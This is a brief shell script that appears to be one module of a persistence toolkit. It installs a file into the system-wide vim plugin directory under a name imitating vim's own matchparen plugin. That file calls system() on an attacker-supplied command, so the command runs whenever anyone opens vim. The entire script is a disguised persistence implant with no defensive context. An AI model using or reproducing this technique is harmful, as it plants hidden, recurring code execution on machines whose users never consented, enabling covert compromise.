#!/bin/sh
# vim-plugin: a plugin of vim (vim, runtimepath)
. "${0%/*}/lib.sh"
payload
put "/usr/share/vim/vimfiles/plugin/$(named up matchparen2).vim" 644 \
	"${head:+\"${head#\#}}" "call system(\"$cmd\")"
